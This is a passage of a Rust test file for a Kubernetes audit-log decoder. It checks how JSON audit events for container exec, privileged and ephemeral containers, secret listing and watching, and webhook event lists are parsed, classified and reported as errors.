        decoded.event.workload.unwrap().kind,
        "SelfSubjectRulesReview"
    );
    let text = event_with(
        r#""verb":"create","objectRef":{"resource":"selfsubjectaccessreviews","apiGroup":"authorization.k8s.io"}"#,
    );
    assert_eq!(decode_ok(&text).event.action, Action::ResourceList);
}

#[test]
fn exec_and_attach_into_an_init_container_with_either_verb() {
    for (verb, sub, action) in [
        ("create", "exec", Action::ContainerExec),
        ("get", "exec", Action::ContainerExec),
        ("create", "attach", Action::ContainerAttach),
        ("get", "attach", Action::ContainerAttach),
    ] {
        let text = event_with(&format!(
            r#""stage":"ResponseStarted","requestURI":"/api/v1/namespaces/prod/pods/web-1/{sub}?container=init-setup&stdin=true","verb":"{verb}","objectRef":{{"resource":"pods","namespace":"prod","name":"web-1","subresource":"{sub}"}},"responseStatus":{{"code":101}}"#
        ));
        let decoded = decode_ok(&text);
        assert!(decoded.evaluate);
        assert_eq!(decoded.event.action, action);
        assert_eq!(
            decoded.event.containers[0].name.as_deref(),
            Some("init-setup")
        );
    }
}

#[test]
fn response_object_wins_and_failures_fall_back_to_the_request() {
    let request = r#"{"kind":"Pod","metadata":{"generateName":"p-"},"spec":{"containers":[{"name":"a","securityContext":{"privileged":true}}]}}"#;
    // Denied: the response is a Status, the request still shows what was asked for.
    let text = event_with(&format!(
        r#""stage":"ResponseComplete","verb":"create","objectRef":{{"resource":"pods","namespace":"n"}},"responseStatus":{{"code":403}},"requestObject":{request},"responseObject":{{"kind":"Status","apiVersion":"v1","status":"Failure","code":403}}"#
    ));
    let event = decode_ok(&text).event;
    assert_eq!(by_name(&event, "a").security.privileged, Some(true));
    assert_eq!(event.error.as_deref(), Some("403"));
    assert_eq!(event.workload.unwrap().name.as_deref(), Some("p-"));
}

#[test]
fn ephemeral_containers_subresource() {
    let response = r#"{"kind":"Pod","metadata":{"name":"p","uid":"u"},"spec":{"hostPID":true,"containers":[{"name":"app","image":"app:1"}],"ephemeralContainers":[{"name":"debugger","image":"busybox","securityContext":{"privileged":true}}]}}"#;
    let text = event_with(&format!(
        r#""stage":"ResponseComplete","verb":"patch","objectRef":{{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"}},"requestObject":{{"spec":{{"ephemeralContainers":[{{"name":"debugger","image":"busybox"}}]}}}},"responseObject":{response}"#
    ));
    let event = decode_ok(&text).event;
    assert_eq!(event.action, Action::WorkloadPatch);
    assert_eq!(
        names(&event),
        vec![("debugger".to_owned(), ContainerRole::Ephemeral)]
    );
    assert_eq!(event.containers[0].security.privileged, Some(true));
    assert_eq!(event.containers[0].security.host_pid, Some(true));
    assert_eq!(event.workload.unwrap().uid.as_deref(), Some("u"));

    // Kubernetes 1.16-1.22: an `EphemeralContainers` body, update verb.
    let text = event_with(
        r#""stage":"ResponseComplete","verb":"update","objectRef":{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"},"requestObject":{"kind":"EphemeralContainers","apiVersion":"v1","metadata":{"name":"p"},"ephemeralContainers":[{"name":"dbg","image":"busybox"}]}"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(event.action, Action::WorkloadUpdate);
    assert_eq!(
        names(&event),
        vec![("dbg".to_owned(), ContainerRole::Ephemeral)]
    );
    assert_eq!(event.containers[0].security.host_pid, None);
}

#[test]
fn list_and_watch() {
    let with = |verb: &str, uri: &str, stage: &str| {
        let text = event_with(&format!(
            r#""stage":"{stage}","requestURI":"{uri}","verb":"{verb}","objectRef":{{"resource":"secrets","apiVersion":"v1"}}"#
        ));
        let decoded = decode_ok(&text);
        (decoded.event.action, evaluation(&decoded))
    };
    assert_eq!(
        with("list", "/api/v1/secrets?limit=500", "ResponseComplete"),
        (Action::ResourceList, ALWAYS)
    );
    assert_eq!(
        with("list", "/api/v1/secrets?watch=false", "ResponseComplete"),
        (Action::ResourceList, ALWAYS)
    );
    assert_eq!(
        with(
            "list",
            "/api/v1/secrets?resourceVersion=1\\u0026watch=true",
            "ResponseStarted"
        ),
        (Action::ResourceWatch, FIRST)
    );
    assert_eq!(
        with("list", "/api/v1/secrets?watch=1", "ResponseComplete"),
        (Action::ResourceWatch, FIRST)
    );
    assert_eq!(
        with("watch", "/api/v1/secrets?watch=true", "ResponseStarted"),
        (Action::ResourceWatch, FIRST)
    );
    assert_eq!(
        with("watch", "/api/v1/secrets?watch=true", "ResponseComplete"),
        (Action::ResourceWatch, FIRST)
    );
}

#[test]
fn other_subresources_and_verbs() {
    let with = |verb: &str, resource: &str, sub: &str| {
        let sub = if sub.is_empty() {
            String::new()
        } else {
            format!(r#","subresource":"{sub}""#)
        };
        let text = event_with(&format!(
            r#""stage":"ResponseComplete","verb":"{verb}","objectRef":{{"resource":"{resource}","name":"x"{sub}}}"#
        ));
        decode_ok(&text).event.action
    };
    assert_eq!(with("update", "pods", "status"), Action::Other);
    assert_eq!(with("create", "pods", "binding"), Action::Other);
    assert_eq!(with("patch", "deployments", "scale"), Action::Other);
    assert_eq!(with("get", "pods", "log"), Action::ResourceGet);
    assert_eq!(with("update", "daemonsets", ""), Action::WorkloadUpdate);
    assert_eq!(with("deletecollection", "pods", ""), Action::WorkloadDelete);
    assert_eq!(with("create", "secrets", ""), Action::Other);
    assert_eq!(with("create", "pods", "exec"), Action::ContainerExec);
}

#[test]
fn shape_errors_name_the_field_and_column() {
    // `verb` is the one field an event cannot lack; the error is at the closing brace.
    let missing_verb = r#"{"kind":"Event","auditID":"a","stage":"ResponseComplete"}"#;
    match decode(missing_verb) {
        Err(DecodeError::Shape {
            message, column, ..
        }) => {
            assert!(message.contains("verb"), "{message}");
            assert_eq!(column as usize, missing_verb.len());
        }
        other => panic!("{other:?}"),
    }
    let wrong_kind = r#"{"kind":"Policy","auditID":"a","verb":"get"}"#;
    match decode(wrong_kind) {
        Err(DecodeError::Shape {
            column, message, ..
        }) => {
            assert_eq!(column, 16);
            assert!(message.contains("EventList"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    // A wrapper carries one event, not a list.
    let list = r#"{"kind":"EventList","items":[]}"#;
    assert!(matches!(decode(list), Err(DecodeError::Shape { .. })));
    assert!(matches!(
        decode(r#"{"auditID":"a","verb":"#),
        Err(DecodeError::Syntax { .. })
    ));

    // A pod body that does not fit is located inside the record.
    let text = r#"{"auditID":"a","verb":"create","objectRef":{"resource":"pods"},"requestObject":{"kind":"Pod","spec":{"hostPID":"yes"}}}"#;
    match decode(text) {
        Err(DecodeError::Shape {
            column, message, ..
        }) => {
            assert!(message.starts_with("requestObject: "), "{message}");
            assert_eq!(
                &text[..column as usize],
                &text[..text.find("\"yes\"").unwrap() + 5]
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn v1beta1_timestamp_is_the_last_resort() {
    let text = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1beta1","auditID":"a","verb":"get","timestamp":"2018-10-26T13:38:34Z"}"#;
    let event = decode_ok(text).event;
    assert_eq!(event.time_ns, Some(1_540_561_114_000_000_000));
    assert!(event.workload.is_none());
    assert!(event.principal.is_none());
}

// ---- Trimmed events and the webhook's EventList ----

#[test]
fn a_trimmed_event_decodes_what_is_there_and_guesses_nothing() {
    // No auditID, stage or requestURI; Metadata level (no bodies); the code quoted; a
    // field this decoder has never heard of.
    let text = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","verb":"create","user":{"username":"alice"},"sourceIPs":["203.0.113.7"],"objectRef":{"resource":"pods","namespace":"prod","name":"web-1","apiVersion":"v1"},"responseStatus":{"code":"201"},"stageTimestamp":"2024-05-14T09:12:03.531904Z","x-shipper":{"host":"fb-1"}}"#;
    let decoded = crate::decode::decode_one(text).expect("claimed and decoded");
    let event = &decoded.event;
    assert_eq!(event.source, Source::K8sAudit);
    assert_eq!(event.action, Action::WorkloadCreate);
    assert!(decoded.evaluate, "no stage: evaluated");
    assert_eq!(event.request_id, None);
    assert_eq!(event.response_code, Some(201));
    assert_eq!(event.error, None);
    let workload = event.workload.as_ref().expect("from objectRef");
    assert_eq!(workload.name.as_deref(), Some("web-1"));
    assert_eq!(workload.namespace.as_deref(), Some("prod"));
    // No body: the containers are unknown, not unprivileged.
    assert!(event.containers.is_empty());
    assert_eq!(event.principal.as_ref().unwrap().name, "alice");
    assert_eq!(event.time_ns, Some(1_715_677_923_531_904_000));

    // A quoted failure code is a failure all the same.
    let denied = text.replace(r#""code":"201""#, r#""code":"403","reason":"Forbidden""#);
    let event = crate::decode::decode_one(&denied).unwrap().event;
    assert_eq!(event.response_code, Some(403));
    assert_eq!(event.error.as_deref(), Some("Forbidden"));
}

#[test]
fn trimmed_events_are_claimed_by_the_keys_they_keep() {
    for text in [
        r#"{"verb":"get","objectRef":{"resource":"secrets"}}"#,
        r#"{"verb":"get","requestURI":"/api/v1/secrets"}"#,
        r#"{"verb":"get","sourceIPs":["10.0.0.1"],"user":{"username":"bob"}}"#,
        r#"{"verb":"get","stageTimestamp":"2024-05-14T09:12:03Z"}"#,
        r#"{"verb":"get","requestReceivedTimestamp":"2024-05-14T09:12:03Z"}"#,
        r#"{"apiVersion":"audit.k8s.io/v1","verb":"get"}"#,
        r#"{"apiVersion":"audit.k8s.io/v1beta1","verb":"get"}"#,
    ] {
        assert_eq!(
            crate::decode::detect(text),
            Some(Source::K8sAudit),
            "{text}"
        );
        assert_eq!(
            crate::decode::decode_one(text).unwrap().event.action,
            Action::ResourceGet
        );
    }
    // Claimed but not an event: reported, with the reason.
    let err = crate::decode::decode_one(
        r#"{"apiVersion":"audit.k8s.io/v1","kind":"Event","user":{"username":"bob"}}"#,
    )
    .unwrap_err();
    assert!(err.to_string().contains("verb"), "{err}");
    let err = crate::decode::decode_one(
        r#"{"apiVersion":"audit.k8s.io/v1","kind":"Policy","rules":[{"level":"Metadata"}]}"#,
    )
    .unwrap_err();
    assert!(err.to_string().contains("Policy"), "{err}");
}

#[test]
fn a_webhook_event_list_is_one_event_per_item() {
    let one = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a-1","stage":"ResponseComplete","verb":"get","objectRef":{"resource":"secrets","namespace":"prod","name":"db"},"responseStatus":{"code":200}}"#;
    let two = one
        .replace("a-1", "a-2")
        .replace(r#""verb":"get""#, r#""verb":"delete""#);
    let text = format!(
        r#"{{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{{}},"items":[{one},{two}]}}"#
    );
    let record = crate::decode::decode(
        &text,
        &mut crate::decode::StreamState::default(),
        &crate::decode::Context::default(),
    )
    .expect("the list decodes");
    assert_eq!(record.source, Source::K8sAudit);
    let got: Vec<_> = record
        .events
        .iter()
        .map(|d| {
            (
                d.event.request_id.as_deref().unwrap().to_owned(),
                d.event.action,
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("a-1".to_owned(), Action::ResourceGet),
            ("a-2".to_owned(), Action::Other)
        ]
    );
    // Each item is what its raw-field rules read.
    assert_eq!(record.events[0].raw.as_deref(), Some(one));
    assert_eq!(record.events[1].raw.as_deref(), Some(two.as_str()));

    // An empty list is no event and no error; a bad item is located at the item.
    let empty = r#"{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[]}"#;
    let record = crate::decode::decode(
        empty,
        &mut crate::decode::StreamState::default(),
        &crate::decode::Context::default(),
    )
    .unwrap();
    assert!(record.events.is_empty());
    let bad = format!(
        r#"{{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[{one},{{"kind":"Event","auditID":"x"}}]}}"#
    );
    let err = decode_record(&bad).unwrap_err();
    assert!(err.to_string().contains("verb"), "{err}");
    assert_eq!(err.column() as usize, bad.len() - 2);
}
